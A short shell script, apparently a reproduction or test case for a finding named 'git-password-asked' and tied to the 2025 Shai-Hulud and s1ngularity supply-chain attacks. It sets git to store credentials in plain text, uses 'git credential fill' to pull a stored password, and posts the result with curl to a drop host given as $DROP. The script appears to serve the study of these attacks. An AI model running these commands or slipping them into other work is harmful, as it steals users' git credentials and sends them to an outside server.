# incident: Shai-Hulud and s1ngularity (2025): tools that keep tokens are asked for them by their own commands
# finding: git-password-asked
# needs: git curl
git config --global credential.helper store
printf 'protocol=https\nhost=example.test\n\n' | git credential fill > got
curl -s --data-binary @got "http://$DROP/c" >/dev/null
